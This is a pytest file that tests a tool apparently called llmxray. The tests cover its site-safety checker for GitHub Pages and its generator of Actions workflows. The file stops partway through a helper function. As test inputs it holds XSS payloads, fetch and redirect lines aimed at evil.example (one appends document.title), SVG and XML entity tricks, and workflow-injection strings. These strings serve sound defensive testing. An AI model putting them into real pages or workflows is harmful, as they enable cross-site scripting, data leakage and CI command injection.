"""Publishing: the workflow can be run step by step here, and a site that would break is told why."""

from __future__ import annotations

import json
import os
import re
import select
import shlex
import shutil
import subprocess
import tracemalloc
import zipfile
from html import escape
from pathlib import Path
from typing import Any

import altair as alt
import hypothesis
import pytest
import yaml
from hypothesis import strategies as st

from llmxray.charts import theme
from llmxray.errors import InputError
from llmxray.report import lesson
from llmxray.report.files import shards
from llmxray.report.site.single_file import single
from llmxray.report.widgets.breaks import breakable
from llmxray.report.widgets.render import CONTENT_SECURITY_POLICY, Renderer
from llmxray.workflow import github_pages, origin
from llmxray.workflow.site_sources import Sources
from tests.commands import llmxray
from tests.interop import made_files
from tests.packs.conftest import EXPERIMENT, record
from tests.report import reading_data

ROOT = Path(__file__).parent.parent.parent


HEAD = (
    f'<!doctype html>\n<html lang="en" data-whole>\n<head>\n<meta charset="utf-8">\n'
    f'<meta http-equiv="Content-Security-Policy" content="{escape(CONTENT_SECURITY_POLICY)}">\n'
)


def a_site(folder: Path, head: str = HEAD, **pages: str) -> Path:
    """A site with an index and further pages, ``a__b`` standing for ``a/b``; all but the first begin with ``head``."""
    for name, text in {
        "index": '<a href="one/index.html#x">one</a>',
        "one__index": '<p id="x">',
        **pages,
    }.items():
        path = folder / (name.replace("__", "/") + ".html")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text((HEAD if name == "index" else head) + text)
    return folder


@pytest.mark.parametrize(
    ("html", "fault"),
    [
        ('<a href="/index.html">', "/index.html is not relative: it breaks under a sub-path"),
        ('<a href="gone.html">', "gone.html leads to no file"),
        ('<a href="../../index.html">', "leads out of the site"),
        ('<a href="//cdn.example/x">', "is neither in the site nor on the web"),
        ('<a href="javascript:alert(1)">', "is neither in the site nor on the web"),
        ('<a href="java&#10;script:alert(1)">', "is neither in the site nor on the web"),
        ('<a href="data:text/html,x">', "is neither in the site nor on the web"),
        ('<script src="gone.js"></script>', "gone.js leads to no file"),
        ('<script src="../../a.js"></script>', "../../a.js leads out of the site"),
        ('<link rel="stylesheet" href="gone.css">', "gone.css leads to no file"),
        ('<form data-file="data/gone.js">', "data/gone.js leads to no file"),
        (
            '<div data-compare="javascript:alert(1)">',
            "javascript:alert(1) is neither in the site nor on the web",
        ),
        ('<div data-xray="gone.html">', "gone.html leads to no file"),
    ],
)
def test_a_link_that_would_break_is_named(tmp_path: Path, html: str, fault: str) -> None:
    """With its page."""
    (line,) = github_pages.site_faults(a_site(tmp_path, one__two=html))
    assert line.startswith("one/two.html: ")
    assert fault in line


@pytest.mark.parametrize(
    "html",
    [
        *(f'<script src="../a.{kind}"></script>' for kind in ("txt", "json", "md", "csv", "css")),
        '<script src="../a.txt?.js"></script>',
        '<script src="https://cdn.example/x.js"></script>',
        '<script src="../d.js" charset="shift_jis"></script>',
        '<script charset="shift_jis" src="../d.js"></script>',
        '<script src="../d.js" type="module"></script>',
        '<script src="../d.js">alert(1)</script>',
        "<script>alert(1)</script>",
        '<SCRIPT SRC="../a.txt">',
        '<svg><script href="../a.txt"></script></svg>',
        '<svg><title><script src="../a.txt"></script></title></svg>',
        '<svg><style><script src="../a.txt"></script></style></svg>',
        '<link rel=stylesheet href="../a.txt">',
        '<link rel="stylesheet" href="../a.txt">',
        '<link rel="stylesheet" href="../d.js">',
        '<link rel="modulepreload" href="../d.js">',
        '<link rel="stylesheet" charset="shift_jis" href="../a.css">',
        '<iframe srcdoc="&lt;script src=../a.txt>&lt;/script>"></iframe>',
        '<iframe src="index.html"></iframe>',
        '<object data="../a.txt"></object>',
        '<embed src="../a.txt">',
        '<base href="../one/">',
        '<base href="https://evil.example/">',
        "<svg><foreignObject></foreignObject></svg>",
        '<svg><use href="../a.svg"/></svg>',
        '<svg><image href="//cdn.example/x.png"/></svg>',
        '<svg><path href="../a.txt"/></svg>',
        '<svg><rect fill="url(https://evil.example/#a)"/></svg>',
        '<svg><rect onload="alert(1)"/></svg>',
        '<p onclick="alert(1)">',
        '<p style="color:red">',
        '<p title="<script src=../a.txt>">',
        "<p title='a'>",
        "<p hidden/onclick>",
        "<p\xa0hidden>",
        '<form data-file="../a.json">',
        '<form data-file="../d.js?">',
        '<form data-file="//evil.example/d.js">',
        '<div data-shard="../a.json">',
        '<main data-index="../a.json">',
        '<p data-else="x">',
        '<form action="../index.html">',
        '<form action="https://evil.example/">',
        '<form><button formaction="//evil.example/x">',
        '<form><input formaction="http://evil.example/">',
        '<a href="../index.html" ping="https://evil.example/p">',
        '<img src="data:,x">',
        '<img srcset="../index.html 1x, https://cdn.example/2.png 2x">',
        "<x-a>",
        '<meta http-equiv="Refresh" content="0; url=https://evil.example/">',
        '<meta name="google-site-verification" content="x">',
        "<meta content=0 content='0; url=//evil.example' http-equiv=&#114;efresh>",
        "<p><META http-equiv=refresh content='0; url=//evil.example'>",
        "<!--><p>",
        "<![CDATA[x>",
        "<?x ?>",
        "a < b",
    ],
)
def test_what_no_page_of_ours_holds_is_named(tmp_path: Path, html: str) -> None:
    """A page may run the scripts of the site that were looked into, and no other file."""
    site = a_site(tmp_path, one__two=html)
    (site / "d.js").write_bytes(b"".join(shards.shard("a", 1).chunks()))
    for kind in ("txt", "json", "csv"):
        (site / f"a.{kind}").write_text("location = 'https://evil.example/'")
    (site / "a.svg").write_text(f"{SVG}</svg>")
    faults = github_pages.site_faults(site)
    assert faults
    assert all(fault.startswith("one/two.html: holds ") for fault in faults)
    assert all(
        fault.endswith("which no page of llmxray does: build it again, or remove it") for fault in faults
    )


def test_of_one_page_the_first_faults_are_named(tmp_path: Path) -> None:
    """It may have one in each of its characters, and its path in front of each."""
    links = "".join(f'<a href="gone{n}.html">' for n in range(20_000))
    faults = github_pages.site_faults(a_site(tmp_path, one__index=links, two='<a href="gone.html">'))
    assert [20, 1] == [sum(fault.startswith(name) for fault in faults) for name in ("one/", "two.")]


def test_what_pages_of_ours_load_is_no_fault(tmp_path: Path) -> None:
    """Scripts, styles, an icon, and data files that a script of ours runs."""
    html = (
        '<link rel="icon" type="image/svg+xml" href="../a.svg"><script src="../d.js"></script>'
        '<form data-file="../d.js"><div data-shard="../d.js"></div><div data-index="../d.js"></div></form>'
        '<svg viewBox="0 0 1 1"><clipPath id="a"><rect x2="0" fill="var(--line)"/></clipPath></svg>'
    )
    site = a_site(tmp_path, one__two=html)
    (site / "d.js").write_bytes(b"".join(shards.shard("a", 1).chunks()))
    (site / "a.svg").write_text(f"{SVG}</svg>")
    assert github_pages.site_faults(site) == []


def test_a_word_that_may_break_is_no_fault(tmp_path: Path) -> None:
    """A label of 150 letters, or a question in a script without spaces."""
    html = breakable(f"<p>{'W' * 150} {'字' * 60}</p>")
    assert "<wbr>" in html
    assert github_pages.site_faults(a_site(tmp_path, one__two=html)) == []


@pytest.mark.parametrize(
    "head",
    [
        "",
        "<!doctype html><html><head><style>@import url(https://evil.example/a.css)</style></head>",
        "<!doctype html><html><head><script>fetch('https://evil.example/')</script></head>",
        '<!doctype html><html><body><iframe srcdoc="<img src=https://evil.example/d.png>"></iframe>',
        HEAD.replace("connect-src &#x27;none&#x27;", "connect-src *"),
        HEAD.replace('lang="en"', "onclick=\"fetch('https://evil.example/')\""),
        HEAD.replace("<head>", "<head><script>fetch('https://evil.example/')</script>"),
        f"<!-- {HEAD} -->",
    ],
)
def test_a_page_without_our_policy_is_named(tmp_path: Path, head: str) -> None:
    """What its scripts, styles and frames load cannot be seen in its links."""
    faults = github_pages.site_faults(a_site(tmp_path, head, one__two="<x-a>"))
    assert [fault for fault in faults if fault.startswith("one/two.html: ")] == [
        "one/two.html: does not begin with the policy of llmxray's pages: build it again, or move it away"
    ]


def test_a_file_to_hand_out_is_named_in_one_line(tmp_path: Path) -> None:
    """Of --single-file, beside a site: what it is, and where it belongs."""
    site = a_site(tmp_path / "site")
    data = reading_data.benchmark(tmp_path / "c", lambda *_: reading_data.words("A"))
    single([data], site)
    assert github_pages.site_faults(site) == [
        f"{data.name}.html: has its scripts in itself, to be handed out and not published: move it out of the folder "
        "of the site"
    ]


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ("<script>fetch('https://evil.example/')</script>", "holds <script>"),
        ('<s:script xmlns:s="http://www.w3.org/2000/svg" href="x.js"/>', "holds <script>"),
        ('<img xmlns="http://www.w3.org/1999/xhtml" src="data:,"/>', "holds <img>"),
        ('<path xmlns="http://www.w3.org/1999/xhtml"/>', "holds <path>"),
        ("<foreignObject/>", "holds <foreignObject>"),
        ('<rect onload="fetch(1)"/>', "holds onload=…"),
        ('<image x:href="https://evil.example/a.png"/>', "holds <image>"),
        ('<a href="java&#10;script:alert(1)"/>', "holds <a>"),
        ('<a ping="http:evil.example"/>', "holds ping=…"),
        ('<path x:href="#a"/>', "holds href=…"),
        ('<rect><animate attributeName="x:href" to="x"/></rect>', "holds <animate>"),
        ("<style>@import 'https://evil.example/a.css'</style>", "holds <style>"),
        ("<style><style/>@import url(https://evil.example/)</style>", "holds <style>"),
        ("<style>@im<g>x</g>port 'https://evil.example/a.css'</style>", "holds <style>"),
        ('<rect style="fill:red"/>', "holds style=…"),
        ('<rect fill="u\\72l(//evil.example)"/>', "holds fill="),
        ('<rect fill="u\\72l"/>', "holds fill="),
        ('<rect fill="url(https://evil.example/#a)"/>', "holds fill="),
        ('<rect fill="urrgb(1)l(https://evil.example/#a)"/>', "holds fill="),
        ("<rect clip-path='url(\"#a\")'/>", "holds clip-path="),
        ("<svg>", "is not XML"),
        ("\x00", "is not XML"),
    ],
)
@pytest.mark.parametrize("name", ["one/a.svg", "B.SVG"])
def test_a_drawing_that_does_more_is_named(tmp_path: Path, text: str, fault: str, name: str) -> None:
    """It holds no policy, and a browser that opens it runs it."""
    site = a_site(tmp_path)
    (site / name).write_text(f"{SVG}{text}</svg>")
    faults = github_pages.site_faults(site)
    assert all(fault.startswith(f"{name}: ") for fault in faults)
    assert fault in "\n".join(faults)


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ('<?xml-stylesheet href="https://evil.example/a.xsl"?>', "holds <?xml-stylesheet?>"),
        ('<!DOCTYPE svg [<!ENTITY a "<script/>">]>', "holds <!DOCTYPE>"),
        *(
            (f'<?xml version="1.0" encoding="{name}"?>', f"holds encoding={name}")
            for name in ("rot13", "utf-7", "hex", "shift_jis")
        ),
    ],
)
def test_what_stands_before_a_drawing_is_named(tmp_path: Path, text: str, fault: str) -> None:
    """Style sheets, entities, and encodings that a browser and this parser may read as two texts."""
    site = a_site(tmp_path)
    (site / "a.svg").write_text(f"{text}{SVG}</svg>")
    (line,) = github_pages.site_faults(site)
    assert line.startswith(f"a.svg: {fault}; ")
    assert line.endswith("save it as PNG instead")


def test_a_drawing_names_no_more_than_a_reader_needs(tmp_path: Path) -> None:
    """Attributes that a document type gives to every element are never read; of other faults the first ones count."""
    site = a_site(tmp_path)
    names = "".join(f"a{number:04} CDATA 'x' " for number in range(2500))
    (site / "a.svg").write_text(f"<!DOCTYPE svg [<!ATTLIST a {names}>]>{SVG}{'<a/>' * 5000}</svg>")
    tracemalloc.start()
    try:
        (fault,) = github_pages.site_faults(site)
        assert tracemalloc.get_traced_memory()[1] < 20 << 20
    finally:
        tracemalloc.stop()
    assert fault.startswith("a.svg: holds <!DOCTYPE>; ")
    (site / "a.svg").write_text(SVG + "".join(f"<x{number}/>" for number in range(500)) + "</svg>")
    assert len(github_pages.site_faults(site)) <= 20


def test_a_drawing_that_only_draws_is_no_fault(tmp_path: Path) -> None:
    """With words that look like an address, and clips, turns and colours of its own."""
    site = a_site(tmp_path)
    (site / "one/a.svg").write_text(
        f'<?xml version="1.0" encoding="UTF-8"?>{SVG}<title>https://x.example/ url(x)</title>'
        '<defs><clipPath id="p"><rect width="2" height="1"/></clipPath></defs>'
        '<g transform="translate(1,2) rotate(-90)" clip-path="url(#p)"><path d="M0,0L1,1" stroke="rgb(1, 2, 3)"'
        ' aria-label="f(x)//model"/><text font-size="11">@import \\ //</text></g></svg>'
    )
    assert github_pages.site_faults(site) == []


def test_the_charts_of_a_site_only_draw(tmp_path: Path) -> None:
    """All that a chart writes is known, as is the icon."""
    site = a_site(tmp_path)
    drawn = json.dumps({"mark": "bar", "encoding": {"x": {"field": "a"}}, "data": {"values": [{"a": 1}]}})
    (site / "a.svg").write_text(theme.svg(alt.Chart.from_json(drawn), "a", "one bar"))
    (site / "icon.svg").write_bytes((ROOT / "llmxray/report/static/favicon.svg").read_bytes())
    assert github_pages.site_faults(site) == []


RUNS = '<x xmlns="http://www.w3.org/1999/xhtml"><script>fetch("https://evil.example/")</script></x>'


@pytest.mark.parametrize(
    "name",
    [
        "a.shtml",
        "a.htm",
        "a.xhtml",
        "a.xml",
        "a.xsd",
        "a.xslt",
        "a.rss",
        "one/a.MATHML",
        "a.svgz",
        "a.html.gz",
        "a",
    ],
)
def test_a_file_of_a_kind_that_no_site_has_is_named(tmp_path: Path, name: str) -> None:
    """A host may hand it out as a page or as XML, and a browser runs what it holds."""
    site = a_site(tmp_path)
    (site / name).write_text(RUNS)
    (fault,) = github_pages.site_faults(site)
    assert fault.startswith(f"{name}: a site holds .html .svg ")
    assert fault.endswith("remove it, or put it into a zip")


def test_files_that_a_site_has_are_no_fault(tmp_path: Path) -> None:
    """Tables, packs, pictures."""
    site = a_site(tmp_path)
    begins = {
        "a.xray.zip": b"PK\3\4",
        "results.parquet": b"PAR1",
        "a.PNG": b"\x89PNG",
        "a.jpg": b"\xff\xd8\xff",
    }
    for name in ("a.csv", "a.json", "a.txt", *begins):
        (site / name).write_bytes(begins.get(name, b"x"))
    assert github_pages.site_faults(site) == []


@pytest.mark.parametrize("name", ["a.js", "one/a.CSS"])
@pytest.mark.parametrize(
    "text",
    [
        "location = 'https://evil.example/' + document.title",
        "@import 'https://evil.example/a.css';",
        ".a { background: url(https://evil.example/a.png) }",
        "llmxray.shard('a', fetch('https://evil.example/'));",
        "llmxray.shard('a','b');fetch('https://evil.example/');",
        "llmxray.shard('a','\\\\');alert(1);//');",
        "llmxray.shard('a',`${alert(1)}`);",
        "llmxray.showSteps({a(){}});",
        "llmxray.shard('a','\n');",
        "llmxray.other('a');",
        'llmxray.packed("a","eJw=");',
        "llmxray.packed( 'a','eJw=');",
    ],
)
def test_a_script_or_style_that_is_not_ours_is_named(tmp_path: Path, name: str, text: str) -> None:
    """Scripts may do anything that our policy allows, such as go to another page."""
    site = a_site(tmp_path)
    (site / name).write_text(text)
    (fault,) = github_pages.site_faults(site)
    assert fault == f"{name}: is no file of this llmxray: build the whole site again, or remove it"


def test_scripts_and_styles_of_a_site_are_ours(tmp_path: Path) -> None:
    """All that a site has; one more byte, and it is named."""
    site = a_site(tmp_path)
    Renderer(site)
    values: tuple[Any, ...] = ({"a": [1, -2.5e-3, None, True, float("nan")], "b": "\\ \"'\u2028ä();"}, [])
    for value in values:
        for packed in (False, True):
            (site / f"{packed}{len(value)}.js").write_bytes(
                b"".join(shards.shard("a", value, packed=packed).chunks())
            )
        for show in ("Steps", "Ledger"):
            (site / f"{show}{len(value)}.js").write_text(f"llmxray.show{show}({json.dumps(value)});\n")
    assert len(list(site.glob("static/*.js"))) > 40
    assert github_pages.site_faults(site) == []
    ours = next(site.glob("static/frame.*.js"))
    ours.write_bytes(ours.read_bytes() + b" ")
    (fault,) = github_pages.site_faults(site)
    assert fault.startswith(f"static/{ours.name}: is no file of this llmxray")


@pytest.mark.parametrize(
    ("name", "text", "fault"),
    [
        ("a.html.parquet", RUNS, "has two endings"),
        ("one/a.shtml.ZIP", RUNS, "has two endings"),
        ("a.svg.png", RUNS, "has two endings"),
        ("a.md", "text, then " + RUNS, "a site holds"),
        ("a.txt", "---\npermalink: /b.html\n---\n" + RUNS, "begins with front matter"),
        ("a.csv", "\ufeff--- \n---\n" + RUNS, "begins with front matter"),
        *(
            (f"a.{kind}", RUNS, "does not begin as")
            for kind in ("parquet", "zip", "png", "webp", "ico", "gif", "jpg")
        ),
        *((f"a.{kind}", "\ufeff \n" + RUNS, "does not begin as") for kind in ("txt", "csv", "json")),
        ("a.txt", "%PDF-1.7", "does not begin as"),
    ],
)
def test_a_file_that_may_become_a_page_is_named(tmp_path: Path, name: str, text: str, fault: str) -> None:
    """By an ending before the last one, or by what stands at its beginning."""
    site = a_site(tmp_path)
    (site / name).write_text(text)
    line, *_ = github_pages.site_faults(site)
    assert line.startswith(f"{name}: {fault}")


@pytest.mark.parametrize(
    ("page", "fault"),
    [
        (HEAD + '<a href="http://[x">', "http://[x is no address"),
        (HEAD + r'<meta http-equiv=refresh content="0;url=/\evil.example/">', "which no page"),
        (HEAD + r'<meta http-equiv=refresh content="0;url=\\evil.example/">', "which no page"),
        (HEAD + "\udcff", "cannot be read as a page"),
    ],
)
def test_a_page_that_cannot_be_read_is_named(tmp_path: Path, page: str, fault: str) -> None:
    """No traceback, and the other pages are looked at."""
    site = a_site(tmp_path, one__two='<a href="gone.html">')
    (site / "a.html").write_text(page, errors="surrogateescape")
    (first, second) = github_pages.site_faults(site)
    assert first.startswith("a.html: ")
    assert fault in first
    assert second == "one/two.html: gone.html leads to no file"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no such pipes")
@pytest.mark.parametrize("name", ["a.html", "a.svg", "index.html"])
def test_a_pipe_in_a_site_is_named(tmp_path: Path, name: str) -> None:
    """It would be waited for until somebody writes into it."""
    site = a_site(tmp_path)
    (site / name).unlink(missing_ok=True)
    os.mkfifo(site / name)
    assert any(
        fault.startswith(f"{name}: a link of the file system, or a pipe")
        for fault in github_pages.site_faults(site)
    )


@pytest.mark.parametrize("linked", [".github", ".github/workflows", ".github/workflows/pages.yml"])
def test_no_workflow_is_written_through_a_link(tmp_path: Path, linked: str) -> None:
    """It would land outside of the repository."""
    elsewhere, repository = tmp_path / "elsewhere", tmp_path / "repository"
    elsewhere.mkdir()
    (repository / linked).parent.mkdir(parents=True)
    (repository / linked).symlink_to(elsewhere)
    with pytest.raises(InputError, match="is a link: remove it"):
        github_pages.write_workflow(repository)
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://example.org/">',
        '<a href="#here">',
        '<a href="../index.html?q=1#b">',
        '<a href="">',
    ],
)
def test_links_that_work_anywhere_are_no_fault(tmp_path: Path, html: str) -> None:
    """Relative ones, fragments, and links a reader follows to elsewhere."""
    assert github_pages.site_faults(a_site(tmp_path, one__two=html)) == []


def test_files_that_pages_does_not_take_are_named(tmp_path: Path) -> None:
    """Hidden files, links, names that differ in case only, and files too large."""
    site = a_site(tmp_path, one__INDEX="<p>")
    (site / ".env").write_text("x")
    (site / "link.html").symlink_to("index.html")
    with (site / "big.bin").open("wb") as file:
        file.truncate(github_pages.MOST_FILE_BYTES + 1)
    faults = "\n".join(github_pages.site_faults(site))
    for part in (".env: a hidden file", "link.html: a link", "in case only", "big.bin: 100,000,001 bytes"):
        assert part in faults


def test_no_site_is_said_to_be_none(tmp_path: Path) -> None:
    """With what to do."""
    with pytest.raises(InputError, match="build the site first"):
        github_pages.site_faults(tmp_path)


@pytest.fixture
def released(monkeypatch: pytest.MonkeyPatch) -> str:
    """As if installed from a repository: the machine of the tests has a clone, which nobody else can install."""
    commit = {"url": "https://x.example/o/r", "vcs_info": {"vcs": "git", "commit_id": "c0ffee"}}
    monkeypatch.setattr(origin, "requirement", lambda: origin.requirement_of(json.dumps(commit)))
    return "git+https://x.example/o/r@c0ffee"


def test_the_workflow_is_written_once_and_never_over_another(tmp_path: Path, released: str) -> None:
    """It installs the release that wrote it."""
    path, changed = github_pages.write_workflow(tmp_path)
    assert changed
    assert f"pip install {released}\n" in path.read_text()
    assert github_pages.write_workflow(tmp_path) == (path, False)
    path.write_text("name: mine\n")
    with pytest.raises(InputError, match="exists and is not ours"):
        github_pages.write_workflow(tmp_path)
    assert path.read_text() == "name: mine\n"


@pytest.mark.parametrize(
    ("recorded", "wanted"),
    [
        (
            {"url": "https://x.example/o/r.git", "vcs_info": {"vcs": "git", "commit_id": "c0ffee"}},
            "git+https://x.example/o/r.git@c0ffee",
        ),
        (
            {
                "url": "https://x.example/o/r",
                "vcs_info": {"vcs": "git", "commit_id": "c0ffee", "requested_revision": "v1"},
                "subdirectory": "py",
            },
            "git+https://x.example/o/r@c0ffee#subdirectory=py",
        ),
        (
            {"url": "https://x.example/llmxray-1-py3-none-any.whl", "archive_info": {}},
            "https://x.example/llmxray-1-py3-none-any.whl",
        ),
    ],
)
def test_another_machine_installs_what_was_installed_here(recorded: dict[str, object], wanted: str) -> None:
    """At the commit, whatever branch or tag was asked for."""
    assert origin.requirement_of(json.dumps(recorded)) == wanted


@pytest.mark.parametrize(
    "recorded",
    [
        '{"url": "file:///home/me/llmxray", "dir_info": {"editable": true}}',
        '{"url": "ssh://git@x.example/o/r", "vcs_info": {"vcs": "git", "commit_id": "c0ffee"}}',
        '{"url": "https://me:word@x.example/o/r", "vcs_info": {"vcs": "git", "commit_id": "c0ffee"}}',
        "[]",
        "no json",
        # Installed by its name alone: on the index anybody may own it.
        None,
    ],
)
def test_what_no_other_machine_can_install_is_refused(recorded: str | None) -> None:
    """With the option that says what to install, and without the password."""
    with pytest.raises(InputError, match=r"--install git\+https://HOST/OWNER/NAME@COMMIT") as raised:
        origin.requirement_of(recorded)
    assert "word" not in str(raised.value)


def test_a_repository_gets_no_workflow_that_cannot_install(tmp_path: Path) -> None:
    """Published from a clone: one line, and nothing written."""
    site = a_site(tmp_path / "site")
    done = llmxray("publish", "--out", str(site), at=tmp_path)
    assert (done.returncode, done.stderr.count("\n")) == (2, 1)
    assert "--install git+https://" in done.stderr
    assert not (tmp_path / ".github").exists()


def test_the_workflow_installs_from_where_it_is_told(tmp_path: Path) -> None:
    """Quoted for the shell that runs it."""
    path, _ = github_pages.write_workflow(tmp_path, source="git+https://example.org/llmxray; true")
    assert "python -m pip install 'git+https://example.org/llmxray; true'" in path.read_text()


@pytest.mark.parametrize(
    "named",
    [
        {"source": "git+https://example.org/${{ github.actor }}"},
        {
            "source": "llmxray",
            "of": Sources(recorded=False, read=(("logs/a${{ github.event.head_commit.message }}.json",),)),
        },
    ],
)
def test_what_the_host_would_replace_is_named_in_no_workflow(tmp_path: Path, named: dict[str, Any]) -> None:
    """GitHub does so before a shell sees the quotes: the message of a commit would run."""
    with pytest.raises(InputError, match=r"GitHub replaces \$\{\{ … \}\}: rename it"):
        github_pages.write_workflow(tmp_path, **named)
    assert not (tmp_path / ".github").exists()


PRINTED = "a/ -:#'\"$\\{}[]&*!|>%@`é"
HOSTILE = st.one_of(
    *(st.text(letters, min_size=1, max_size=9) for letters in (PRINTED, PRINTED + "\n\r\t\x85\u2028\ud800"))
)


@hypothesis.seed(1)
@hypothesis.settings(max_examples=300, deadline=None)
@hypothesis.given(
    st.sampled_from(("pages.yml", "release.yml")),
    HOSTILE,
    st.lists(st.lists(HOSTILE, min_size=1), min_size=1),
)
def test_no_name_changes_a_step_of_the_workflow(name: str, source: str, read: list[list[str]]) -> None:
    """It is refused, or is a word of the command that it belongs to, and of nothing else."""
    of = Sources(read=tuple(map(tuple, read)))
    try:
        text = github_pages.workflow_text(ROOT / "nowhere", name, source, of)
    except InputError:
        return
    wanted = yaml.safe_load(
        github_pages.workflow_text(ROOT / "nowhere", name, "PLAIN", Sources(read=(("PLAIN",),)))
    )
    steps = {step.get("name", ""): step for step in wanted["jobs"]["build"]["steps"]}
    steps["Install"]["run"] = f"python -m pip install {shlex.quote(source)}"
    commands = [f"llmxray report {shlex.join(words)} --out site\n" for words in read]
    steps["Build the site from the files of other tools"]["run"] = "".join(commands)
    assert yaml.safe_load(text) == wanted


@pytest.mark.parametrize("of", ["install", "read"])
def test_a_line_break_begins_no_step(tmp_path: Path, of: str) -> None:
    """What names it may come with a site from elsewhere; nothing is written."""
    word = "mine\n      - name: Free step\n        run: true"
    named = {"source": word} if of == "install" else {"source": "llmxray", "of": Sources(read=((word,),))}
    with pytest.raises(InputError, match="no workflow can name it"):
        github_pages.write_workflow(tmp_path, **named)
    assert not (tmp_path / ".github").exists()


def test_our_workflow_follows_what_it_is_told_to_install(tmp_path: Path, released: str) -> None:
    """Told again, it is written again; not told, it stays, save for an older release."""
    path, _ = github_pages.write_workflow(tmp_path, source="git+https://example.org/llmxray")
    assert (path, False) == github_pages.write_workflow(tmp_path)
    path, _ = github_pages.write_workflow(tmp_path, source="git+https://example.org/llmxray; true")
    read = Sources(recorded=False, read=(("logs",),))
    assert (path, True) == github_pages.write_workflow(tmp_path, of=read)
    assert (path, False) == github_pages.write_workflow(tmp_path, of=read)
    assert "pip install 'git+https://example.org/llmxray; true'\n" in path.read_text()
    path, _ = github_pages.write_workflow(tmp_path, source="git+https://example.org/llmxray")
    assert "git+https://example.org/llmxray\n" in path.read_text()
    assert (path, True) == github_pages.write_workflow(tmp_path, source="git+https://example.org/fork")
    assert "git+https://example.org/fork\n" in path.read_text()
    path.write_text(path.read_text().replace("git+https://example.org/fork", "llmxray==0.0.1"))
    assert (path, True) == github_pages.write_workflow(tmp_path)
    assert f"{released}\n" in path.read_text()
    path.write_text(path.read_text() + "# and my own step\n")
    with pytest.raises(InputError, match="exists and is not ours"):
        github_pages.write_workflow(tmp_path)
    path.write_bytes(b"\xff")
    with pytest.raises(InputError, match="exists and is not ours"):
        github_pages.write_workflow(tmp_path)
    # Nor is it waited for.
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(InputError, match="cannot be read: "):
        github_pages.write_workflow(tmp_path)


def test_the_workflow_publishes_what_it_built() -> None:
    """Strict replay after verify and scan; the artifact is the checked site; deploy needs the build."""
    jobs = yaml.safe_load(github_pages.workflow_text(ROOT))["jobs"]
    commands = [step["run"] for step in jobs["build"]["steps"] if "run" in step]
    assert commands[0] == (
        "python -m pip install --require-hashes -r locks/core.txt "
        "&& python -m pip install --no-deps --no-build-isolation ."
    )
    assert [
        next(w for w in ("verify", "scan", "run --all", "publish --check") if w in command)
        for command in commands[1:]
    ]
    uses = [step["uses"].split("@")[0] for job in jobs.values() for step in job["steps"] if "uses" in step]
    assert uses[-2:] == ["actions/upload-pages-artifact", "actions/deploy-pages"]
    assert jobs["deploy"]["needs"] == "build"


def test_the_project_publishes_its_own_examples() -> None:
    """With the workflows that it writes for others."""
    for name in (github_pages.PAGES, github_pages.RELEASE):
        own = ROOT / github_pages.WORKFLOWS / name
        assert own.read_text("utf-8") == github_pages.workflow_text(ROOT, name)


def test_a_release_gets_the_site_and_the_packs() -> None:
    """After the same checks as the pages; what is attached is what the steps before wrote, and it is attested."""
    jobs = yaml.safe_load(github_pages.workflow_text(ROOT, github_pages.RELEASE))["jobs"]
    pages = yaml.safe_load(github_pages.workflow_text(ROOT))["jobs"]["build"]["steps"]
    build, attach = jobs["build"]["steps"], jobs["attach"]["steps"]
    assert [step["run"] for step in build if "run" in step][:4] == [
        step["run"] for step in pages if "run" in step
    ][:4]
    files = ["report-site.zip", "*.xray.zip"]
    assert build[-1]["with"]["path"].split() == files
    attested = next(step for step in attach if "attest" in step.get("uses", ""))
    assert attested["with"]["subject-path"].split() == files
    # With a folder before them: a name that begins with a dash is no option then.
    assert "report-site.zip ./*.xray.zip" in attach[-1]["run"]
    assert jobs["attach"]["needs"] == "build"


WORKFLOWS = [
    *((ROOT / "llmxray" / "workflow", name) for name in (github_pages.PAGES, github_pages.RELEASE)),
    *((ROOT / github_pages.WORKFLOWS, path.name) for path in (ROOT / github_pages.WORKFLOWS).glob("*.yml")),
]


@pytest.mark.parametrize(("folder", "name"), WORKFLOWS, ids=lambda part: getattr(part, "name", part))
def test_actions_are_pinned_by_commit(folder: Path, name: str) -> None:
    """A tag can be moved to other code; beside each commit stands the release that it is."""
    text = (folder / name).read_text("utf-8")
    used = re.findall(r"uses: *(.*)", text)
    assert used
    assert [
        action for action in used if not re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", action)
    ] == []
    assert text.count("actions/checkout@") == text.count("persist-credentials: false")


@pytest.mark.parametrize(("folder", "name"), WORKFLOWS, ids=lambda part: getattr(part, "name", part))
def test_each_job_has_the_permissions_it_needs(folder: Path, name: str) -> None:
    """None for the file; a job that installs or runs anything only reads."""
    workflow = yaml.safe_load((folder / name).read_text("utf-8"))
    assert workflow["permissions"] == {}
    for job, settings in workflow["jobs"].items():
        granted = settings["permissions"]
        if any("pip" in step.get("run", "") or ".ci/" in step.get("run", "") for step in settings["steps"]):
            assert granted == {"contents": "read"}, job
        expected = {
            "attach": {"contents", "id-token", "attestations"},
            "deploy": {"pages", "id-token"},
            "upload": {"id-token"},
        }
        assert {key for key, value in granted.items() if value == "write"} == expected.get(job, set()), job


# Of too few questions for intervals, which take most of the time of a page.
SHORT = EXPERIMENT.replace("limit: 12", "limit: 4")
ASKS = """\
#!/bin/sh
printf '%s\\0' "$#" "$PWD" "$@" > asked
read code < said
exit "$code"
"""


def steps_run(repository: Path, text: str) -> list[str]:
    """Names of the steps of a workflow's first job, run in a repository as the runner's shell would.

    Installing and uploading are left out. The shell's ``llmxray`` has this process do what it is told.
    """
    binaries = repository.parent / "bin"
    binaries.mkdir(exist_ok=True)
    pipes = [binaries / name for name in ("asked", "said")]
    for pipe in pipes:
        if not pipe.exists():
            os.mkfifo(pipe)
    asks = re.sub("asked|said", lambda name: shlex.quote(str(binaries / name[0])), ASKS)
    (binaries / "llmxray").write_text(asks)
    (binaries / "llmxray").chmod(0o755)
    environment = {"PATH": f"{binaries}:{os.environ['PATH']}"}
    ran = []
    # Open for both: neither end waits for the other, nor sees an end between two commands.
    asked, said = (os.open(pipe, os.O_RDWR) for pipe in pipes)
    try:
        for step in yaml.safe_load(text)["jobs"]["build"]["steps"]:
